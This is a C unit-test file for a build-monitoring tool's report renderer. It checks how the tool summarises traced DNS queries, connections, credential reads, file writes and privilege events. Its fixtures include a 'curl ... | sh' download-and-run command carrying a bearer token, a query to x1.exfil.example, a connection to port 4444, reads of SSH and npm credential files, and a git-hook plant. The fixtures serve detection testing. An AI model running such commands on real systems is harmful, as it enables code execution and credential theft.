	"{\"seq\":25,\"type\":\"verdict\",\"rule\":\"kernel-module\",\"severity\":\"critical\","
	"\"mode\":\"audit\",\"rule_action\":\"alert\",\"action\":\"alert\",\"pid\":18,"
	"\"start_ns\":180,\"on\":\"privilege\",\"argv\":[\"insmod\"]}\n"
	"{\"seq\":26,\"type\":\"privilege\",\"pid\":19,\"start_ns\":190,\"comm\":\"gdb\",\"op\":\"ptrace\","
	"\"args\":[16],\"target_pid\":12,\"target_in_job\":true}\n"
	"{\"seq\":27,\"type\":\"privilege\",\"pid\":17,\"start_ns\":170,\"comm\":\"sudo\",\"op\":\"setuid\","
	"\"args\":[0,0,0]}\n"
	"{\"seq\":28,\"type\":\"exit\",\"pid\":10,\"start_ns\":100,\"exit_code\":0}\n"
	"{\"seq\":29,\"type\":\"summary\",\"command\":[\"make\",\"all\"],\"exit_status\":0,"
	"\"build_exit_code\":0,\"build_signal\":null,\"checkout\":\"/w\"}\n";

static struct json_object *row(struct json_object *j, const char *key, size_t i)
{
	struct json_object *a = get(j, key);

	assert_true(i < json_object_array_length(a));
	return json_object_array_get_idx(a, i);
}

static const char *str_at(struct json_object *o, const char *path)
{
	return json_object_get_string(get(o, path));
}

static void test_review_json(void **state)
{
	struct out_files *o = *state;
	struct json_object *j, *e;
	char *js;

	write_text(o->events, review_log);
	free(render(o, false, false));
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	/* DNS names: the flagged one, then DoH, then by queries; who asked */
	assert_int_equal(json_object_array_length(get(j, "dns_names")), 3);
	e = row(j, "dns_names", 0);
	assert_string_equal(str_at(e, "name"), "x1.exfil.example");
	assert_string_equal(str_at(e, "resolver"), "other");
	assert_string_equal(str_at(e, "rule"), "dns-odd");
	e = row(j, "dns_names", 1);
	assert_string_equal(str_at(e, "name"), "dns.google");
	assert_string_equal(str_at(e, "dns_over"), "https");
	e = row(j, "dns_names", 2);
	assert_string_equal(str_at(e, "name"), "registry.npmjs.org");
	assert_int_equal(json_object_get_int(get(e, "queries")), 2);
	assert_string_equal(str_at(e, "resolver"), "configured");
	assert_int_equal(json_object_array_length(get(e, "processes")), 2);
	assert_string_equal(str_at(row(e, "processes", 0), "comm"), "npm");
	assert_string_equal(str_at(row(e, "processes", 1), "comm"), "node");
	/* destinations: DoH, then a bare address, then by connections */
	assert_string_equal(str_at(row(j, "network", 0), "daddr"), "8.8.8.8");
	assert_string_equal(str_at(row(j, "network", 1), "daddr"), "203.0.113.5");
	e = row(j, "network", 2);
	assert_string_equal(str_at(e, "daddr"), "104.16.0.1");
	assert_int_equal(json_object_array_length(get(e, "processes")), 2);
	/* credential reads: not a process's own /proc files */
	assert_int_equal(json_object_array_length(get(j, "credential_reads")), 2);
	e = row(j, "credential_reads", 0);
	assert_string_equal(str_at(e, "path"), "/home/u/.ssh/id_rsa");
	assert_string_equal(str_at(e, "rule"), "credential-file-access");
	assert_string_equal(str_at(row(e, "processes", 0), "comm"), "cat");
	e = row(j, "credential_reads", 1);
	assert_string_equal(str_at(e, "path"), "/home/u/.npmrc");
	assert_int_equal(json_object_get_int(get(e, "reads")), 2);
	assert_int_equal(json_object_get_int(get(e, "refused")), 1);
	/* written: under the checkout (not the root's cwd), renames by target, failures not */
	assert_string_equal(str_at(j, "written_base"), "/w");
	assert_int_equal(json_object_array_length(get(j, "written")), 2);
	assert_string_equal(str_at(row(j, "written", 0), "path"), "/w/out/a.o");
	assert_int_equal(json_object_get_int(get(row(j, "written", 0), "writes")), 2);
	assert_string_equal(str_at(row(j, "written", 1), "path"), "/w/out/b.o");
	assert_int_equal(json_object_get_int(get(j, "written_outside")), 1);
	/* privilege: the flagged module load first, then ptrace, then setuid */
	assert_int_equal(json_object_array_length(get(j, "privilege")), 3);
	assert_string_equal(str_at(row(j, "privilege", 0), "op"), "module");
	assert_string_equal(str_at(row(j, "privilege", 0), "rule"), "kernel-module");
	assert_string_equal(str_at(row(j, "privilege", 1), "detail"), "pid 12");
	e = row(j, "privilege", 2);
	assert_string_equal(str_at(e, "detail"), "ids 0 0 0");
	assert_int_equal(json_object_get_int(get(e, "count")), 2);
	assert_string_equal(str_at(row(e, "processes", 0), "comm"), "sudo");
	assert_string_equal(str_at(j, "headline"), "passed");
	assert_false(json_object_get_boolean(get(j, "log_cut_start")));
	assert_false(json_object_get_boolean(get(j, "log_cut_end")));
	json_object_put(j);
	free(js);
}

static void test_review_markdown_text(void **state)
{
	struct out_files *o = *state;
	char *text, *md;

	write_text(o->events, review_log);
	text = render(o, false, false);
	md = read_text(o->md);
	assert_non_null(strstr(md, "### DNS names queried\n\n| Name | Queries | Resolver | Processes |\n"
				   "|---|---:|---|---|\n| `x1.exfil.example` | 1 | **other** | "
				   "`curl 13` ! `dns-odd` |\n| `dns.google` DNS over HTTPS | 1 | "
				   "configured | `git 14` |\n| `registry.npmjs.org` | 2 | configured | "
				   "`npm 11, node 12` |\n"));
	assert_non_null(strstr(md, "| `104.16.0.1` | 443 | tcp | `registry.npmjs.org` | 2 | "
				   "`npm 11, node 12` |\n"));
	assert_non_null(strstr(md, "### Credential reads\n\n| File | Reads | Refused | Processes |\n"
				   "|---|---:|---:|---|\n| `/home/u/.ssh/id_rsa` | 1 | 0 | `cat 15` ! "
				   "`credential-file-access` |\n"));
	assert_non_null(strstr(md, "| `/w/out/a.o` | 2 | `cc 16` |\n| `/w/out/b.o` | 1 | `cc 16` |\n"
				   "\n… and 1 more writes outside the checkout (in the event log).\n"));
	assert_non_null(strstr(md, "### Privilege events\n\n| Call | Detail | Count | Processes |\n"
				   "|---|---|---:|---|\n| `module` |  | 1 | `insmod 18` ! `kernel-module` |\n"
				   "| `ptrace` | `pid 12` | 1 | `gdb 19` |\n"));
	assert_non_null(strstr(text, "buildwarden: DNS name queried: x1.exfil.example (1 query, 1 to a "
				     "resolver the host did not configure; by curl 13)  <- rule 'dns-odd'\n"));
	assert_non_null(strstr(text, "buildwarden: connected to 203.0.113.5:4444 (1 connection; by "
				     "curl 13)\n"));
	assert_non_null(strstr(text, "buildwarden: credential read: /home/u/.npmrc (2 reads, 1 refused; "
				     "by npm 11, node 12)\n"));
	assert_non_null(strstr(text, "buildwarden: written in the checkout: /w/out/a.o (2 writes; by "
				     "cc 16)\n"));
	assert_non_null(strstr(text, "buildwarden: privilege: setuid ids 0 0 0 (2 calls; by sudo 17)\n"));
	assert_null(strstr(text, "log is cut"));
	free(md);
	free(text);
}

/* Many writes fold into directories; counts stay exact, processes are capped. */
static void test_review_bounds(void **state)
{
	struct out_files *o = *state;
	struct json_object *j, *a;
	FILE *f = fopen(o->events, "w");
	unsigned i, seq = 0;
	uint64_t writes = 0;
	char *js;

	assert_non_null(f);
	fprintf(f, "{\"seq\":%u,\"type\":\"exec\",\"pid\":1,\"start_ns\":1,\"cwd\":\"/w\","
		"\"argv\":[\"make\"]}\n", ++seq);
	for (i = 0; i < 3000; i++)
		fprintf(f, "{\"seq\":%u,\"type\":\"file\",\"pid\":%u,\"start_ns\":%u,\"comm\":\"cc\","
			"\"op\":\"open-write\",\"path\":\"/w/d%u/e%u/f%u.o\",\"result\":0}\n", ++seq,
			2 + i % 7, 2 + i % 7, i % 40, i % 3, i);
	for (i = 0; i < 300; i++)
		fprintf(f, "{\"seq\":%u,\"type\":\"dns\",\"pid\":%u,\"start_ns\":1,\"comm\":\"dig\","
			"\"direction\":\"query\",\"qname\":\"n%u.example\"}\n", ++seq, 100 + i % 9,
			i % 250);
	fprintf(f, "{\"seq\":%u,\"type\":\"exit\",\"pid\":1,\"start_ns\":1,\"exit_code\":0}\n", ++seq);
	fprintf(f, "{\"seq\":%u,\"type\":\"summary\",\"command\":[\"make\"],\"exit_status\":0}\n", ++seq);
	assert_int_equal(fclose(f), 0);
	free(render(o, false, false));
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	a = get(j, "written");
	assert_true(json_object_array_length(a) <= REPORT_WRITES_SHOWN);
	assert_true(json_object_array_length(a) >= 2);
	for (i = 0; i < json_object_array_length(a); i++) {
		writes += (uint64_t)json_object_get_int64(get(json_object_array_get_idx(a, i), "writes"));
		assert_true(json_object_get_boolean(get(json_object_array_get_idx(a, i), "directory")));
		assert_int_equal(json_object_array_length(get(json_object_array_get_idx(a, i),
							       "processes")), REPORT_ROW_PROCS);
	}
	assert_int_equal(writes, 3000);
	assert_string_equal(str_at(j, "written_base"), "/w");
	/* 250 names, 200 kept: the queries of the other 50 are counted */
	assert_int_equal(json_object_array_length(get(j, "dns_names")), REPORT_MAX_NAMES);
	assert_int_equal(json_object_get_int(get(j, "dns_names_other")), 50);
	json_object_put(j);
	free(js);
}

/*
 * The Action's start/stop mode: the daemon adopted a running job (its log
 * starts with a fork, no root exec) and stopped before its root ended.
 */
static void test_agent_stopped_title(void **state)
{
	struct out_files *o = *state;
	struct json_object *j;
	char *text, *md, *js;

	write_text(o->events,
		   "{\"seq\":1,\"type\":\"fork\",\"pid\":21,\"start_ns\":210,\"parent_pid\":20,"
		   "\"parent_start_ns\":200}\n"
		   "{\"seq\":2,\"type\":\"exec\",\"pid\":21,\"start_ns\":210,\"comm\":\"bash\","
		   "\"argv\":[\"bash\",\"-e\",\"step.sh\"]}\n"
		   "{\"seq\":3,\"type\":\"verdict\",\"rule\":\"r1\",\"severity\":\"low\",\"mode\":\"audit\","
		   "\"rule_action\":\"alert\",\"action\":\"alert\",\"pid\":21,\"start_ns\":210,"
		   "\"argv\":[\"bash\"]}\n"
		   "{\"seq\":4,\"type\":\"verdict\",\"rule\":\"r2\",\"severity\":\"low\",\"mode\":\"audit\","
		   "\"rule_action\":\"alert\",\"action\":\"alert\",\"pid\":21,\"start_ns\":210,"
		   "\"argv\":[\"bash\"]}\n"
		   "{\"seq\":5,\"type\":\"summary\",\"command\":[],\"exit_status\":0,"
		   "\"agent_stopped\":true,\"job_killed\":false,\"job\":{\"name\":\"run-7-1-build\"}}\n");
	text = render(o, false, false);
	md = read_text(o->md);
	assert_non_null(strstr(md, "## buildwarden: `job run-7-1-build` — agent stopped before the job "
				   "ended (exit status unknown): 2 verdicts; the log starts after the "
				   "job began\n"));
	assert_null(strstr(md, "passed"));
	assert_non_null(strstr(text, "; agent stopped before the job ended (exit status unknown): "
				     "2 verdicts; the log starts after the job began\n"));
	assert_null(strstr(text, "exit status 0"));
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	assert_string_equal(str_at(j, "status"), "agent stopped before the job ended");
	assert_false(json_object_get_boolean(get(j, "exit_known")));
	assert_true(json_object_get_boolean(get(j, "log_cut_start")));
	assert_false(json_object_get_boolean(get(j, "log_cut_end")));
	json_object_put(j);
	free(js);
	free(md);
	free(text);

	/* a daemon job whose root never exited, no agent_stopped: still not "passed" */
	write_text(o->events,
		   "{\"seq\":1,\"type\":\"exec\",\"pid\":21,\"start_ns\":210,\"job_root\":true,"
		   "\"argv\":[\"Runner.Worker\"]}\n"
		   "{\"seq\":2,\"type\":\"summary\",\"command\":[\"Runner.Worker\"],\"exit_status\":0,"
		   "\"build_exit_code\":null,\"build_signal\":null}\n");
	free(render(o, false, false));
	md = read_text(o->md);
	assert_non_null(strstr(md, "— exit status unknown: no verdicts\n"));
	free(md);
}

/*
 * Syscalls the kernel could not keep in flight (the summary's calls_dropped):
 * the trace is incomplete, said in every form of the report; none: not said.
 */
static void test_calls_dropped(void **state)
{
	struct out_files *o = *state;
	struct json_object *j;
	char *text, *md, *js;

	write_text(o->events,
		   "{\"seq\":1,\"type\":\"exec\",\"pid\":5,\"start_ns\":50,\"argv\":[\"make\"]}\n"
		   "{\"seq\":2,\"type\":\"summary\",\"command\":[\"make\"],\"exit_status\":0,"
		   "\"lost\":0,\"untracked\":0,\"calls_dropped\":3}\n");
	text = render(o, false, false);
	assert_non_null(strstr(text, "buildwarden: WARNING: the trace is incomplete: 0 lost, "
				     "0 untracked, 3 syscalls dropped, 0 malformed, 0 records "
				     "missing from the log\n"));
	md = read_text(o->md);
	assert_non_null(strstr(md, "3 syscalls dropped in the kernel"));
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	assert_int_equal(json_object_get_int(get(j, "counts.calls_dropped")), 3);
	json_object_put(j);
	free(js);
	free(md);
	free(text);
	write_text(o->events,
		   "{\"seq\":1,\"type\":\"exec\",\"pid\":5,\"start_ns\":50,\"argv\":[\"make\"]}\n"
		   "{\"seq\":2,\"type\":\"summary\",\"command\":[\"make\"],\"exit_status\":0,"
		   "\"lost\":0,\"untracked\":0,\"calls_dropped\":0}\n");
	text = render(o, false, false);
	assert_null(strstr(text, "incomplete"));
	free(text);
}

/* A log cut at its end: the command is the root exec's, and the report says it was cut. */
static void test_cut_log(void **state)
{
	struct out_files *o = *state;
	struct json_object *j;
	char *text, *md, *js;

	write_text(o->events,
		   "{\"seq\":1,\"type\":\"tamper\",\"signal\":\"SIGKILL\",\"earlier_agent\":true}\n"
		   "{\"seq\":2,\"type\":\"exec\",\"pid\":5,\"start_ns\":50,\"argv\":[\"make\",\"-k\"]}\n"
		   "{\"seq\":3,\"type\":\"fork\",\"pid\":6,\"start_ns\":60,\"parent_pid\":5,"
		   "\"parent_start_ns\":50}\n"
		   "{\"seq\":4,\"type\":\"exec\",\"pid\":6,\"start_ns\":60,\"argv\":[\"cc\",\"-c\",\"a.c\"]}\n");
	text = render(o, false, false);
	md = read_text(o->md);
	assert_non_null(strstr(md, "## buildwarden: `make -k` — incomplete (the log has no summary "
				   "record): no verdicts\n"));
	assert_non_null(strstr(md, "> **Warning:** the log is cut: it ends before the job did.\n"));
	assert_non_null(strstr(text, "buildwarden: WARNING: the log is cut: it ends before the job did\n"));
	js = read_text(o->json);
	j = json_tokener_parse(js);
	assert_non_null(j);
	assert_string_equal(json_object_get_string(json_object_array_get_idx(get(j, "command"), 0)),
			    "make");
	assert_false(json_object_get_boolean(get(j, "log_cut_start")));
	assert_true(json_object_get_boolean(get(j, "log_cut_end")));
	json_object_put(j);
	free(js);
	free(md);
	free(text);

	/* cut at the start too: records 1-9 are gone, so no root exec is known */
	write_text(o->events,
		   "{\"seq\":10,\"type\":\"exec\",\"pid\":6,\"start_ns\":60,\"argv\":[\"cc\"]}\n");
	text = render(o, false, false);
	md = read_text(o->md);
	assert_non_null(strstr(md, "## buildwarden: `(unknown command)` — incomplete (the log has no "
				   "summary record and starts after the job began): no verdicts\n"));
	assert_non_null(strstr(text, "the log is cut: it starts after the job began; it ends before "
				     "the job did\n"));
	free(md);
	free(text);

	/* run --scope host: a host process's fork before the root's exec cuts nothing */
	write_text(o->events,
		   "{\"seq\":1,\"type\":\"fork\",\"pid\":9,\"start_ns\":90,\"parent_pid\":1,"
		   "\"parent_start_ns\":1}\n"
		   "{\"seq\":2,\"type\":\"exec\",\"pid\":5,\"start_ns\":50,\"argv\":[\"make\"]}\n"
		   "{\"seq\":3,\"type\":\"exit\",\"pid\":5,\"start_ns\":50,\"exit_code\":0}\n"
		   "{\"seq\":4,\"type\":\"summary\",\"command\":[\"make\"],\"exit_status\":0,"
		   "\"scope\":\"host\",\"build_exit_code\":0,\"build_signal\":null}\n");
	text = render(o, false, false);
	md = read_text(o->md);
	assert_non_null(strstr(md, "## buildwarden: `make` — passed\n"));
	assert_null(strstr(text, "log is cut"));
	free(md);
	free(text);
}

static void test_malformed_lines(void **state)
{
	static const char *const bad[] = {
		"{\"type\":\"exec\",\"pid\":1,\"start_ns\":1}\n{\"type\":\"exec\",\n",
		"{\"type\":\"exec\",\"pid\":1,\"start_ns\":1} {}\n",
		"[1,2]\n",
		"{\"seq\":1}\n",
		"{\"type\":\"exec\",\"pid\":\"x\",\"start_ns\":1}\n",
		"{\"type\":\"fork\",\"pid\":2,\"start_ns\":2}\n",
		"not json\n",
	};
	struct out_files *o = *state;
	struct report_opts ro = { 0 };
	struct report r;
	const char *why;
	size_t i;
	int saved = dup(STDERR_FILENO), null = open("/dev/null", O_WRONLY), err;

	/* The FILE:LINE messages are checked by tests/cli/report.bats. */
	assert_true(saved >= 0 && null >= 0);
	dup2(null, STDERR_FILENO);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		write_text(o->events, bad[i]);
		if (report_render(o->events, &ro) != -EINVAL)
			break;
	}
	err = report_render("/nonexistent/events.jsonl", &ro);
	dup2(saved, STDERR_FILENO);
	close(saved);
	close(null);
	assert_int_equal(i, sizeof(bad) / sizeof(bad[0]));
	assert_int_equal(err, -ENOENT);
	/* the reason, for the FILE:LINE message */
	assert_int_equal(report_init(&r), 0);
	why = NULL;
	assert_int_equal(report_feed(&r, "{\"type\":", 8, &why), -EINVAL);
	assert_string_equal(why, "the record is cut short");
	assert_int_equal(report_feed(&r, "{\"x\":1}", 7, &why), -EINVAL);
	assert_string_equal(why, "no \"type\" string");
	assert_int_equal(report_feed(&r, "  \r\n", 4, &why), 0);
	report_free(&r);
}

/* The same outputs from render as from a live report fed by writes of `step` bytes. */
static void live_matches_render(struct out_files *o, size_t step)
{
	struct report_opts ro = { .markdown_path = o->md, .json_path = o->json };
	size_t len = strlen(small_log) - 1, pos; /* the last line without its newline */
	char *want_text, *want_md, *want_json, *text = NULL, *md, *js;
	struct report_live *l;
	size_t text_len = 0;
	FILE *f;

	write_text(o->events, small_log);
	want_text = render(o, false, false);
	want_md = read_text(o->md);
	want_json = read_text(o->json);
	f = fopen(o->events, "w");
	assert_non_null(f);
	assert_int_equal(report_live_open(&l, o->events), 0);
	for (pos = 0; pos < len; pos += step) {
		assert_int_equal(fwrite(small_log + pos, 1, len - pos < step ? len - pos : step, f) > 0, 1);
		assert_int_equal(fflush(f), 0);
		assert_int_equal(report_live_poll(l), 0);
	}
	assert_int_equal(fclose(f), 0);
	ro.tree_out = open_memstream(&text, &text_len);
	assert_non_null(ro.tree_out);
	assert_int_equal(report_live_render(l, &ro), 0);
	fclose(ro.tree_out);
	md = read_text(o->md);
	js = read_text(o->json);
	assert_string_equal(text, want_text);
	assert_string_equal(md, want_md);
	assert_string_equal(js, want_json);
	free(md);
	/* A second render (the step summary's append) gives the same report. */
	ro = (struct report_opts){ .markdown_path = o->md };
	assert_int_equal(report_live_render(l, &ro), 0);
	md = read_text(o->md);
	assert_string_equal(md, want_md);
	report_live_free(l);
	free(md);
	free(js);
	free(text);
	free(want_text);
	free(want_md);
	free(want_json);
}

/* The same outputs from render as from a live report fed line by line by the writer. */
static void live_fed_matches_render(struct out_files *o)
{
	struct report_opts ro = { .markdown_path = o->md, .json_path = o->json };
	char *want_md, *want_json, *md, *js, *text;
	const char *p = small_log, *nl;
	struct report_live *l;

	write_text(o->events, small_log);
	text = render(o, false, false);
	want_md = read_text(o->md);
	want_json = read_text(o->json);
	assert_int_equal(report_live_new(&l, o->events), 0);
	for (; (nl = strchr(p, '\n')); p = nl + 1)
		assert_int_equal(report_live_feed_line(l, p, (size_t)(nl - p + 1)), 0);
	assert_int_equal(report_live_render(l, &ro), 0);
	md = read_text(o->md);
	js = read_text(o->json);
	assert_string_equal(md, want_md);
	assert_string_equal(js, want_json);
	report_live_free(l);
	free(md);
	free(js);
	free(text);
	free(want_md);
	free(want_json);
}

/*
 * A report read while its stream is written (report_live_*), as run does:
 * lines cut anywhere by the writer's flushes, and a last line without its
 * newline, give the same report as one read of the finished file, and
 * so do its lines fed by the writer; a malformed line stops it, and
 * every later call says so.
 */
static void test_live(void **state)
{
	static const size_t steps[] = { 1, 7, 100, 4096, 1 << 20 };
	struct out_files *o = *state;
	struct report_opts ro = { 0 };
	struct report_live *l;
	size_t i;
	int saved, null;
	FILE *f;

	for (i = 0; i < sizeof(steps) / sizeof(steps[0]); i++)
		live_matches_render(o, steps[i]);
	live_fed_matches_render(o);

	saved = dup(STDERR_FILENO);
	null = open("/dev/null", O_WRONLY);
	assert_true(saved >= 0 && null >= 0);
	dup2(null, STDERR_FILENO);
	f = fopen(o->events, "w");
	assert_non_null(f);
	assert_int_equal(report_live_open(&l, o->events), 0);
	fputs("{\"seq\":1,\"type\":\"exec\",\"pid\":5,\"start_ns\":50}\nnot json\n", f);
	fflush(f);
	i = (size_t)report_live_poll(l);
	fputs("{\"seq\":2,\"type\":\"exit\",\"pid\":5,\"start_ns\":50}\n", f);
	fclose(f);
	assert_int_equal((int)i, -EINVAL);
	assert_int_equal(report_live_poll(l), -EINVAL);
	assert_int_equal(report_live_render(l, &ro), -EINVAL);
	report_live_free(l);
	assert_int_equal(report_live_open(&l, "/nonexistent/events.jsonl"), -ENOENT);
	assert_null(l);
	assert_int_equal(report_live_new(&l, o->events), 0);
	assert_int_equal(report_live_feed_line(l, "{\"seq\":1,\"type\":", 17), -EINVAL);
	assert_int_equal(report_live_feed_line(l, "{\"seq\":2,\"type\":\"x\"}\n", 22), -EINVAL);
	assert_int_equal(report_live_render(l, &ro), -EINVAL);
	report_live_free(l);
	dup2(saved, STDERR_FILENO);
	close(saved);
	close(null);
}

/*
 * One record as the agent renders it (ni: a file or privilege record's
 * decoding, as netinfo writes those), appended to f; whether the
 * lineview takes it back.
 */
static bool put_record(FILE *f, const struct bw_event_view *v, const struct netinfo *ni,
		       uint64_t seq)
{
	struct bw_clock clk = { .realtime_minus_mono_ns = 1764921600000000000LL };
	struct event_lineview *lv = malloc(sizeof(*lv));
	struct jbuf jb;
	bool taken;

	assert_non_null(lv);
	jbuf_init(&jb);
	if (ni)
		netinfo_json_record(&jb, ni, v, seq, &clk);
	else
		event_json_render(&jb, v, seq, &clk);
	assert_false(jb.oom);
	fprintf(f, "%s\n", jb.buf);
	taken = event_lineview(jb.buf, jb.len, lv);
	jbuf_free(&jb);
	free(lv);
	return taken;
}

static void proc_header(struct bw_event_header *h, uint32_t type, uint32_t pid)
{
	memset(h, 0, sizeof(*h));
	h->type = type;
	h->pid = h->tid = pid;
	h->start_ns = pid * 10ULL;
	h->job_id = 9223372036854775809ULL; /* a daemon's */
	h->ktime_ns = 5000000000ULL + pid;
}

static bool put_fork(FILE *f, uint64_t seq, uint32_t pid, uint32_t parent)
{
	struct bw_fork_event e = { .parent_pid = parent, .parent_tid = parent,
				   .parent_start_ns = parent * 10ULL };
	struct bw_event_view v = { .hdr = &e.hdr, .fork = &e };

	proc_header(&e.hdr, BW_EV_FORK, pid);
	return put_record(f, &v, NULL, seq);
}

static bool put_exec(FILE *f, uint64_t seq, uint32_t pid, uint32_t flags, const char *exe,
		     const char *args, uint32_t args_len, const char *container)
{
	struct bw_exec_event e = { .ppid = pid - 1, .parent_start_ns = (pid - 1) * 10ULL,
				   .argc = 3, .uid = 1000, .euid = 1000, .flags = flags,
				   .hints = BW_HINT_SOCKET };
	struct bw_event_view v = { .hdr = &e.hdr, .exec = &e, .filename = exe, .exe = exe,
				   .cwd = "/src/proj", .args = args, .args_len = args_len,
				   .container = container, .env = "LD_PRELOAD=/tmp/x.so",
				   .env_len = 21 };

	proc_header(&e.hdr, BW_EV_EXEC, pid);
	memcpy(e.comm, "tool", 4);
	e.stdio[0].kind = BW_STDIO_PIPE;
	e.stdio[0].mode = BW_STDIO_READ;
	e.stdio[1].kind = BW_STDIO_SOCKET;
	e.stdio[1].family = AF_INET;
	e.stdio[1].port = 4444;
	return put_record(f, &v, NULL, seq);
}

static bool put_exec_failed(FILE *f, uint64_t seq, uint32_t pid, int32_t error, uint32_t flags,
			    const char *filename)
{
	struct bw_exec_failed_event e = { .error = error, .flags = flags, .deny_rule = 2 };
	struct bw_event_view v = { .hdr = &e.hdr, .exec_failed = &e, .filename = filename };

	proc_header(&e.hdr, BW_EV_EXEC_FAILED, pid);
	memcpy(e.comm, "sh", 2);
	return put_record(f, &v, NULL, seq);
}

static bool put_exit(FILE *f, uint64_t seq, uint32_t pid, uint32_t status)
{
	struct bw_exit_event e = { .ppid = pid - 1, .parent_start_ns = (pid - 1) * 10ULL,
				   .exit_status = status };
	struct bw_event_view v = { .hdr = &e.hdr, .exit = &e };

	proc_header(&e.hdr, BW_EV_EXIT, pid);
	memcpy(e.comm, "tool", 4);
	return put_record(f, &v, NULL, seq);
}

/* A file or privilege record's line, info as the agent decoded it (netinfo's copy of it). */
static bool put_hook(FILE *f, const struct bw_event_view *v, const struct bw_event_info *info,
		     uint64_t seq)
{
	struct netinfo *ni = calloc(1, sizeof(*ni));
	bool taken;

	assert_non_null(ni);
	ni->info = *info;
	taken = put_record(f, v, ni, seq);
	free(ni);
	return taken;
}

/* A file record's line: op (its name), path, path2, result, a process's file (target). */
static bool put_file(FILE *f, uint64_t seq, uint32_t pid, uint32_t op, const char *name,
		     const char *path, const char *path2, int32_t ret, uint32_t target)
{
	struct bw_file_event e = { .op = op, .ret = ret, .dirfd = -100, .flags = BW_FILE_RESOLVED };
	struct bw_event_view v = { .hdr = &e.hdr, .file = &e, .cwd = "/src/proj" };
	struct bw_event_info info = {
		.kind = BW_ON_FILE,
		.file = { .op = name, .path = path, .path2 = path2, .target_pid = target,
			  .tracked = op == BW_FILE_RENAME },
	};

	proc_header(&e.hdr, BW_EV_FILE, pid);
	memcpy(e.comm, "tool", 4);
	return put_hook(f, &v, &info, seq);
}

/* A privilege record's line: setuid(0) or a ptrace of target. */
static bool put_priv(FILE *f, uint64_t seq, uint32_t pid, uint32_t target)
{
	struct bw_priv_event e = { .op = target ? BW_PRIV_PTRACE : BW_PRIV_SETUID,
				   .syscall_nr = target ? 101 : 105, .target_pid = target };
	struct bw_event_view v = { .hdr = &e.hdr, .priv = &e };
	struct bw_event_info info = {
		.kind = BW_ON_PRIVILEGE,
		.priv = { .op = target ? "ptrace" : "setuid", .target_pid = target,
			  .target_in_job = true },
	};

	proc_header(&e.hdr, BW_EV_PRIV, pid);
	memcpy(e.comm, "tool", 4);
	return put_hook(f, &v, &info, seq);
}

/* A build's process, file and privilege lines as the agent writes them; how many the lineview takes back. */
static size_t write_agent_log(const char *path)
{
	static const char make[] = "make\0-j2\0all";
	static const char curl[] = "sh\0-c\0curl -H 'Authorization: Bearer abc123' https://e.x | sh";
	static const char tab[] = "printf\0a\tb\0c";
	static const char gcc[] = "gcc\0-c\0zutil.c";
	FILE *f = fopen(path, "w");
	size_t taken = 0;
	uint64_t seq = 0;

	assert_non_null(f);
	taken += put_exec(f, ++seq, 100, BW_EXEC_JOB_ROOT, "/usr/bin/make", make, sizeof(make),
			  NULL);
	taken += put_fork(f, ++seq, 101, 100);
	taken += put_exec_failed(f, ++seq, 101, -ENOENT, 0, "/usr/local/bin/sh");
	taken += put_exec(f, ++seq, 101, BW_EXEC_HELD, "/usr/bin/dash", curl, sizeof(curl),
			  "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
	taken += put_fork(f, ++seq, 102, 101);
	taken += put_exec_failed(f, ++seq, 102, -EPERM, BW_EXECFAIL_DENIED | BW_EXECFAIL_EXECVEAT,
				 "/dev/shm/x");
	taken += put_exec(f, ++seq, 102, BW_EXEC_ARGS_TRUNCATED, NULL, gcc, sizeof(gcc), NULL);
	taken += put_exit(f, ++seq, 102, SIGKILL);
	taken += put_fork(f, ++seq, 103, 101);
	taken += put_exec(f, ++seq, 103, 0, "/usr/bin/printf", tab, sizeof(tab), NULL);
	taken += put_exit(f, ++seq, 103, 0);
	taken += put_file(f, ++seq, 101, BW_FILE_OPEN, "open-read", "/root/.netrc", NULL, 0, 0);
	taken += put_file(f, ++seq, 101, BW_FILE_OPEN, "open-write", "/src/proj/x.o", NULL, 0, 0);
	taken += put_file(f, ++seq, 101, BW_FILE_RENAME, "rename", "/tmp/h",
			  "/src/proj/.git/hooks/pre-commit", 0, 0);
	taken += put_file(f, ++seq, 101, BW_FILE_OPEN, "open-write", "/proc/100/mem", NULL,
			  -EACCES, 100);
	taken += put_priv(f, ++seq, 101, 0);
	taken += put_priv(f, ++seq, 101, 100);
	taken += put_exit(f, ++seq, 101, 1 << 8);
	taken += put_exit(f, ++seq, 100, 2 << 8);
	fprintf(f, "{\"seq\":%llu,\"type\":\"summary\",\"command\":[\"make\",\"-j2\",\"all\"],"
		"\"exit_status\":2,\"lost\":0}\n", (unsigned long long)++seq);
	assert_int_equal(fclose(f), 0);
	return taken;
}

/*
 * The agent's own process lines, read back without JSON (a run handed to
 * a daemon follows its stream this way, and `report` reads a file so):
 * the report is the one the JSON reader gives, line by line, in all three
 * outputs. Every process, file and privilege line but the escaped one is
 * taken directly.
 */
static void test_lineview_same_report(void **state)
{
	struct out_files *o = *state;
	struct report_opts ro = { .markdown_path = o->md, .json_path = o->json };
	char *want_text, *want_md, *want_json, *text = NULL, *line = NULL;
	size_t text_len = 0, cap = 0;
	struct report_live *l;
	ssize_t n;
	FILE *f;

	assert_int_equal(write_agent_log(o->events), 18);
	want_text = render(o, false, false);
	want_md = read_text(o->md);
	want_json = read_text(o->json);
	assert_non_null(strstr(want_text, "make -j2 all"));
	assert_null(strstr(want_text, "abc123"));
	/* What the file and privilege lines add to it. */
	assert_non_null(strstr(want_text, "credential read: /root/.netrc"));
	assert_non_null(strstr(want_text, "tracked file changed: /tmp/h -> /src/proj/.git/hooks/"));
	assert_non_null(strstr(want_text, "written in the checkout: /src/proj/x.o"));
	assert_non_null(strstr(want_text, "privilege: ptrace pid 100"));
	assert_non_null(strstr(want_text, "privilege: setuid ids 0 0 0"));
	/* The same lines through the JSON reader. */
	assert_int_equal(report_live_new(&l, o->events), 0);
	f = fopen(o->events, "r");
	assert_non_null(f);
	while ((n = getline(&line, &cap, f)) > 0)
		assert_int_equal(report_live_feed_line(l, line, (size_t)n), 0);
	fclose(f);
	free(line);
	ro.tree_out = open_memstream(&text, &text_len);
	assert_non_null(ro.tree_out);
	assert_int_equal(report_live_render(l, &ro), 0);
	fclose(ro.tree_out);
	report_live_free(l);
	assert_string_equal(text, want_text);
	free(text);
	text = read_text(o->md);
	assert_string_equal(text, want_md);
	free(text);
